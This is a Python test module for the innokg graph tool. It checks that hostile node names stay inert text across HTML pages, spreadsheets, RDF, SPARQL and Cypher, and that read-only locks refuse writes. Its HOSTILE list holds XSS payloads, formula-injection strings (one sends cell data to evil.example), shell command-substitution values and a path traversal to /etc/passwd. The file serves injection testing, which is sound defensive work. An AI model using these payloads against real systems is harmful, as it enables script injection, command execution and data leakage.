"""Hostile names through every output: they stay text, everywhere.

One small graph whose names are markup, spreadsheet formulas, Cypher and SPARQL
fragments, shell commands and path segments is written as tables, built into a
package by ``innokg build``, and sent through every output innokg has: the
``viz`` pages and the brief (opened in Chromium), CSV and Excel from the question
commands, ``cypher`` and ``export``, GraphML and RDF read back, ``sparql`` and
``cypher`` with the names as parameters.  Then the read-only locks in tricky
forms, and one check that a build is a function of its inputs and seed.
"""

from __future__ import annotations

import csv
import html
import json
import shutil
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from click.testing import CliRunner, Result

from innokg.cli import main
from innokg.graph.package import DATABASE_FILE, read_manifest
from tests.browser import Browser, find_chromium
from tests.factory import make_tables
from tests.needs import unavailable

HOSTILE = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "</textarea><script>window.__pwned=3</script>",
    '"\'><svg onload="window.__pwned=4">',
    '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "\t=1+1",
    "\r=2+2",
    "'}) DETACH DELETE n //",
    '" } ; DROP ALL ; #',
    "$(touch pwned-by-subshell)",
    "`touch pwned-by-backtick`",
    "; ls -la /",
    "../../etc/passwd",
    "C:\\x\\..\\nul",
    "{{7*7}} ${7*7} %s %n \\u0000",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
N = len(HOSTILE)
#: The names as the package holds them: the tables loader trims the spaces, tabs and
#: line breaks around a cell, so the tab and carriage return that lead two names are
#: gone there; they reach the outputs through query parameters instead (below).
STORED = [name.strip() for name in HOSTILE]


def hostile_tables() -> Any:
    firms = [
        {"id": f"E{i:02d}", "name": name, "name_en": name, "size": "large", "industrial": True}
        for i, name in enumerate(HOSTILE)
    ]
    return make_tables(
        {
            "Enterprise": firms,
            "ResearchInstitute": [{"id": "R1", "name": HOSTILE[0], "name_en": HOSTILE[4]}],
            "Product": [{"id": "P1", "name": HOSTILE[5]}, {"id": "P2", "name": HOSTILE[10]}],
            "Region": [
                {"id": "C1", "name": HOSTILE[1], "level": "city", "code": "410100"},
                {"id": "C2", "name": HOSTILE[15], "level": "city", "code": "410200"},
            ],
        },
        {
            "SUPPLIES": [
                (f"E{i:02d}", f"E{i + 1:02d}", {"product": HOSTILE[(i + 3) % N]})
                for i in range(N - 1)
            ]
            + [("E03", "E00", {"product": HOSTILE[11]})],
            "PRODUCES": [(f"E{i:02d}", "P1" if i % 2 else "P2") for i in range(N)],
            "LOCATED_IN": [(f"E{i:02d}", "C1" if i % 2 else "C2") for i in range(N)]
            + [("R1", "C1")],
            "COLLABORATES_WITH": [("E00", "R1", {"kind": "joint_rnd"})],
        },
    )


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def ok(result: Result) -> str:
    assert result.exit_code == 0, result.output
    return result.stdout


def refused(result: Result) -> str:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    return result.output


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("injection")


@pytest.fixture(scope="module")
def package(work: Path) -> Path:
    """The hostile graph as CSV tables, built into a package by ``innokg build``."""
    tables = hostile_tables()
    src = work / "tables"
    for kind, frames in (("nodes", tables.nodes), ("edges", tables.edges)):
        (src / kind).mkdir(parents=True)
        for name, df in frames.items():
            if len(df):
                df.to_csv(src / kind / f"{name}.csv", index=False, quoting=csv.QUOTE_ALL)
    out = work / "pkg"
    ok(invoke("build", f"tables:{src}", "--out", str(out), "-q"))
    return out


def names_in(package: Path) -> dict[str, str]:
    from innokg.graph.package import read_tables

    nodes, _, _ = read_tables(package)
    return {r.id: r.name for df in nodes.values() for r in df[["id", "name"]].itertuples()}


def test_the_package_holds_the_names_exactly(package: Path) -> None:
    names = names_in(package)
    assert [names[f"E{i:02d}"] for i in range(N)] == STORED
    assert (names["R1"], names["P1"], names["C2"]) == (HOSTILE[0], HOSTILE[5], HOSTILE[15])
    assert STORED != HOSTILE and sum(a != b for a, b in zip(STORED, HOSTILE, strict=True)) == 2


# --- spreadsheets: CSV and Excel ------------------------------------------------------------


def neutral(value: Any) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_START))


def read_csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def read_xlsx_cells(path: Path) -> list[Any]:
    import openpyxl

    book = openpyxl.load_workbook(path)  # formulas kept as formulas, not values
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{sheet.title}{cell.coordinate}"
                cells.append(cell.value)
    return cells


def assert_neutralised(cells: list[Any], names: list[str]) -> int:
    """No cell can run; each name that appears does so behind one apostrophe."""
    assert all(neutral(c) for c in cells), [c for c in cells if not neutral(c)]
    shown = 0
    for name in names:
        want = "'" + name if name.startswith(FORMULA_START) else name
        shown += want in cells
        if name.startswith(FORMULA_START):
            assert name not in cells
    return shown


QUESTIONS = [
    ["cypher", "MATCH (e:Enterprise) RETURN e.id AS id, e.name AS name, e.name_en AS en"],
    ["gaps", "--kind", "single_source"],
    ["gaps", "--kind", "no_research_partner"],
    ["clusters"],
    ["partners"],
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_question_outputs_are_neutralised(package: Path, work: Path, fmt: str) -> None:
    shown = {}
    for args in QUESTIONS:
        out = work / f"{args[0]}-{len(shown)}.{fmt}"
        cmd = [args[0], str(package), *args[1:], "--format", fmt, "--out", str(out)]
        ok(invoke(*cmd))
        cells = read_csv_cells(out) if fmt == "csv" else read_xlsx_cells(out)
        shown[" ".join(args[:3])] = assert_neutralised(cells, STORED)
    assert shown[" ".join(QUESTIONS[0][:3])] == N, shown  # every name, in the plain listing
    assert sum(shown.values()) > N, shown


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "screen"])
def test_every_name_as_given_is_neutralised(package: Path, work: Path, fmt: str) -> None:
    """The names exactly as written (leading tab and carriage return too), via a parameter."""
    query = "UNWIND $names AS n RETURN n AS name, n + ' ' AS padded"
    names = f"names={json.dumps(HOSTILE)}"
    if fmt == "screen":
        out = ok(invoke("cypher", str(package), query, "-p", names, "--format", "csv"))
        cells = [c for row in csv.reader(out.splitlines(keepends=True)) for c in row]
    else:
        path = work / f"given.{fmt}"
        ok(invoke("cypher", str(package), query, "-p", names, "--format", fmt, "--out", str(path)))
        cells = read_csv_cells(path) if fmt == "csv" else read_xlsx_cells(path)
    if fmt == "xlsx":  # XML reads a carriage return in text as a line feed
        cells = [c.replace("\n", "\r") if isinstance(c, str) else c for c in cells]
    assert assert_neutralised(cells, HOSTILE) == N


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_whole_package_exports_are_neutralised(package: Path, work: Path, fmt: str) -> None:
    out = work / f"export-{fmt}" if fmt == "csv" else work / "export.xlsx"
    ok(invoke("export", str(package), "--format", fmt, "--out", str(out)))
    if fmt == "csv":
        cells = [c for f in sorted(out.rglob("*.csv")) for c in read_csv_cells(f)]
    else:
        cells = read_xlsx_cells(out)
    assert assert_neutralised(cells, STORED) == N


def test_the_brief_workbook_is_neutralised(package: Path, work: Path) -> None:
    out = work / "brief.xlsx"
    ok(invoke("brief", str(package), "--lang", "en", "--out", str(out)))
    assert_neutralised(read_xlsx_cells(out), STORED)


# --- GraphML and RDF read back ------------------------------------------------------------------


def test_graphml_reads_back_the_names(package: Path, work: Path) -> None:
    out = work / "g.graphml"
    ok(invoke("export", str(package), "--format", "graphml", "--out", str(out)))
    G = nx.read_graphml(out)
    assert {n: d["name"] for n, d in G.nodes(data=True)} == names_in(package)
    products = sorted(d["product"] for _, _, d in G.edges(data=True) if "product" in d)
    assert products == sorted([STORED[(i + 3) % N] for i in range(N - 1)] + [STORED[11]])


@pytest.mark.parametrize("fmt", ["ttl", "nt", "jsonld", "trig"])
def test_rdf_reads_back_the_names(package: Path, work: Path, fmt: str) -> None:
    import rdflib

    out = work / f"g.{fmt}"
    ok(invoke("export", str(package), "--format", fmt, "--out", str(out)))
    g = rdflib.Graph()
    if fmt == "trig":
        with warnings.catch_warnings():  # rdflib's TriG parser calls its own deprecated API
            warnings.simplefilter("ignore", DeprecationWarning)
            ds = rdflib.Dataset()
            ds.parse(out, format="trig")
            for s, p, o, _ in ds.quads((None, None, None, None)):
                g.add((s, p, o))
    else:
        with warnings.catch_warnings():  # rdflib's JSON-LD parser calls its deprecated API
            warnings.simplefilter("ignore", DeprecationWarning)
            g.parse(out, format={"ttl": "turtle", "nt": "nt", "jsonld": "json-ld"}[fmt])
    ik = rdflib.Namespace("https://w3id.org/innokg/ontology#")
    dct = rdflib.Namespace("http://purl.org/dc/terms/")
    got = {}
    for s, name in g.subject_objects(ik.name):
        assert isinstance(name, rdflib.Literal), name
        got[str(g.value(s, dct.identifier))] = str(name)
    assert got == names_in(package)


def test_sparql_returns_the_names_as_literals(package: Path) -> None:
    query = "SELECT ?id ?name WHERE { ?e dcterms:identifier ?id ; ik:name ?name } ORDER BY ?id"
    rows = json.loads(ok(invoke("sparql", str(package), query, "--format", "json")))
    assert {r["id"]: r["name"] for r in rows} == names_in(package)
    bound = "SELECT ?id WHERE { ?e dcterms:identifier ?id ; a ik:Enterprise ; ik:name ?name }"
    for i, name in enumerate(STORED):
        rows = json.loads(
            ok(invoke("sparql", str(package), bound, "-p", f"name={name}", "--format", "json"))
        )
        if name.startswith("<") and name.endswith(">"):
            assert rows == [], name  # --param reads <...> as an IRI: no literal matches
        else:
            assert rows == [{"id": f"E{i:02d}"}], name


def test_cypher_takes_the_names_as_parameters(package: Path) -> None:
    query = "MATCH (e:Enterprise {name: $name}) RETURN e.id AS id, e.name AS name"
    for i, name in enumerate(STORED):
        if name.startswith(("-", "{")):
            continue  # typed as JSON or a number by --param; a string literal keeps it text
        rows = json.loads(
            ok(invoke("cypher", str(package), query, "-p", f"name={name}", "--format", "json"))
        )
        assert rows == [{"id": f"E{i:02d}", "name": name}], name
    for i, name in enumerate(STORED):  # every name, as a JSON string
        rows = json.loads(
            ok(
                invoke(
                    "cypher",
                    str(package),
                    query,
                    "-p",
                    f"name={json.dumps(name)}",
                    "--format",
                    "json",
                )
            )
        )
        assert rows == [{"id": f"E{i:02d}", "name": name}], name


# --- pages in a real browser --------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if find_chromium() is None:
        unavailable("chromium is not installed (apt-get install chromium); browser tests skipped")
    with Browser.launch() as b:
        yield b


#: What a name could have injected into a page: elements with event-handler
#: attributes; images, text areas and frames; scripts (a viz page has three of its own).
INJECTED = """[
  [...document.querySelectorAll('*')].filter(
     e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
  document.querySelectorAll('img, textarea, iframe, object, embed').length,
  document.querySelectorAll('script').length,
]"""


@pytest.mark.parametrize(
    "view", [["--around", "E00", "--depth", "2"], [], ["--partner", "E00", "E05"]]
)
def test_viz_pages_show_the_names_as_text(
    package: Path, work: Path, browser: Browser, view: list[str]
) -> None:
    out = work / f"viz{len(view)}.html"
    ok(invoke("viz", str(package), *view, "--out", str(out)))
    page = browser.open(out)
    page.wait_for("window.innokgReady", timeout=120)
    labels = page.evaluate("network.body.data.nodes.get().map(n => [n.id, n.label, n.title])")
    names = names_in(package)
    drawn = {i: (label, title) for i, label, title in labels if i in names}
    assert drawn, labels
    for node, (label, title) in drawn.items():
        assert label.replace("…", "") in names[node] or names[node] in label, (node, label)
        assert names[node] in title, (node, title)
    heading = page.evaluate("document.querySelector('h1').textContent")
    if view and view[0] == "--around":
        assert heading.startswith(HOSTILE[0])
    assert page.evaluate("typeof window.__pwned") == "undefined"
    # the page's own scripts: the data block, vis-network and the boot script
    assert page.evaluate(INJECTED) == [0, 0, 3]
    assert page.exceptions == [] and page.console_errors == []
    assert [r["url"] for r in page.requests] == [out.resolve().as_uri()]
    page.close()


def test_the_brief_shows_the_names_as_text(package: Path, work: Path, browser: Browser) -> None:
    out = work / "brief.html"
    ok(invoke("brief", str(package), "--lang", "en", "--out", str(out)))
    source = out.read_text("utf-8")
    for name in STORED:
        assert name not in source or html.escape(name) == name, name  # escaped where shown
    page = browser.open(out)
    text = page.evaluate("document.body.innerText")
    shown = [n for n in STORED if html.escape(n, quote=False) in source]
    assert shown, "the brief should name some of the hostile firms"
    for name in shown:
        assert name.strip() in text, name
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.evaluate(INJECTED) == [0, 0, 0]  # the brief has no scripts at all
    assert page.exceptions == []
    page.close()
    md = work / "brief.md"
    ok(invoke("brief", str(package), "--lang", "en", "--out", str(md)))
    assert "<script>" not in md.read_text("utf-8")


def test_outputs_stay_where_they_were_sent(package: Path, work: Path) -> None:
    """Runs after the others in this module: nothing was written outside ``work``."""
    for name in ("pwned-by-subshell", "pwned-by-backtick"):
        assert not (Path.cwd() / name).exists() and not (work / name).exists()
    assert not (work.parent / "etc").exists() and not (work / "etc").exists()
    for path in work.rglob("*"):
        assert all(part not in path.name for part in ("passwd", "<", "$(", "`"))


# --- the read-only locks, in tricky forms ----------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "insert data { <urn:a> <urn:b> 'c' }",
        "InSeRt DaTa { <urn:a> <urn:b> 'c' }",
        "# a comment\nPREFIX x: <urn:x#>\nINSERT DATA { x:a x:b 'c' }",
        "PREFIX x: <urn:x#> # INSERT in a comment\nDELETE WHERE { ?s ?p ?o }",
        "BASE <urn:b/>\nDELETE { ?s ?p ?o } INSERT { ?s ?p 'x' } WHERE { ?s ?p ?o }",
        "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
        "load <http://example.org/x.ttl> into graph <urn:g>",
        "clear default",
        "Drop All",
        "CREATE GRAPH <urn:g>",
        "ADD DEFAULT TO <urn:g>",
        "MOVE DEFAULT TO <urn:g>",
        "COPY DEFAULT TO <urn:g>",
        "SELECT * WHERE { ?s ?p ?o } ; INSERT DATA { <urn:a> <urn:b> 'c' }",
        "INSERT DATA { <urn:a> <urn:b> 'c' } ; SELECT * WHERE { ?s ?p ?o }",
    ],
)
def test_sparql_refuses_updates_in_any_form(package: Path, query: str) -> None:
    message = refused(invoke("sparql", str(package), query))
    assert "are refused" in message or "not a SPARQL query" in message


def test_sparql_keywords_inside_strings_are_fine(package: Path) -> None:
    query = "SELECT ?x WHERE { BIND('INSERT DATA { } ; DROP ALL' AS ?x) }"
    assert json.loads(ok(invoke("sparql", str(package), query, "--format", "json"))) == [
        {"x": "INSERT DATA { } ; DROP ALL"}
    ]


@pytest.fixture
def copy(package: Path, tmp_path: Path) -> Path:
    out = tmp_path / "pkg"
    shutil.copytree(package, out)
    return out


CYPHER_WRITES = [
    "MATCH (n) /* read only? */ DeTaCh DeLeTe n",
    "MATCH (n:Enterprise)\n// a comment\nsEt n.name = 'x'",
    "cReAtE (n:Enterprise {id: 'x', name: 'x', source: 'x'})",
    "MATCH (n) WITH n LIMIT 1 MERGE (m:Enterprise {id: 'x'})",
    "MATCH (n:Enterprise) REMOVE n.name_en",
    "UNWIND [1] AS x FOREACH (i IN [1] | CREATE (:Enterprise {id: 'y'}))",
    "CALL db.createLabel('X')",
    "CALL apoc.create.node(['Enterprise'], {id: 'z'}) YIELD node RETURN node",
    "CALL create_fts_index('Enterprise', 'names', ['name'])",
    "CALL drop_fts_index('Enterprise', 'names')",
    "COPY Enterprise FROM 'nodes.csv'",
    "COPY (MATCH (n) RETURN n.id) TO 'out.csv'",
    "CHECKPOINT",
    "LOAD EXTENSION fts",
    "DROP TABLE Enterprise",
    "ALTER TABLE Enterprise ADD extra STRING",
]


@pytest.mark.parametrize("query", CYPHER_WRITES)
def test_cypher_refuses_writes_without_the_flag(
    copy: Path, query: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    database = copy / DATABASE_FILE
    before = database.read_bytes()
    files = sorted(tmp_path.rglob("*"))
    count = "MATCH (n) RETURN n.id AS id, n.name AS name, n.name_en AS en ORDER BY id"
    was = ok(invoke("cypher", str(copy), count, "--format", "json"))
    refused(invoke("cypher", str(copy), query))
    assert ok(invoke("cypher", str(copy), count, "--format", "json")) == was
    assert database.read_bytes() == before
    assert sorted(tmp_path.rglob("*")) == files  # COPY ... TO wrote no file


@pytest.mark.parametrize(
    "query",
    [
        "RETURN 'CREATE (n) SET n.x = 1 DETACH DELETE n' AS s",
        'MATCH (e:Enterprise) WHERE e.name CONTAINS "DELETE" RETURN count(e) AS n',
        "MATCH (e:Enterprise {name: $name}) RETURN e.id AS id",
        "MATCH (e:Enterprise) RETURN e.name AS `delete`, e.id AS `set` LIMIT 1",
        "MATCH (e:Enterprise) // CREATE in a comment\nRETURN count(e) AS n",
        "MATCH (e:Enterprise) /* MERGE */ RETURN count(e) AS n",
    ],
)
def test_keywords_in_strings_names_and_comments_are_not_writes(package: Path, query: str) -> None:
    ok(invoke("cypher", str(package), query, "-p", f"name={HOSTILE[10]}"))


# --- the same inputs and seed, the same package and answers -----------------------------------


def test_two_builds_give_the_same_tables_and_answers(tmp_path: Path) -> None:
    answers = []
    for name in ("a", "b"):
        out = tmp_path / name
        ok(invoke("demo", "--scale", "500", "--seed", "5", "--out", str(out), "-q"))
        manifest = read_manifest(out)
        tables = {rel: (out / rel).read_bytes() for rel in manifest["files"]}
        query = (
            "MATCH (a:Enterprise)-[s:SUPPLIES]->(b:Enterprise) "
            "RETURN a.id AS u, b.id AS v, s.product AS p ORDER BY u, v, p"
        )
        answers.append(
            (
                manifest["files"],
                tables,
                ok(invoke("cypher", str(out), query, "--format", "csv")),
                ok(invoke("gaps", str(out), "--format", "csv")),
                ok(invoke("sparql", str(out), "-f", "platforms_per_city", "--format", "csv")),
            )
        )
    assert answers[0] == answers[1]
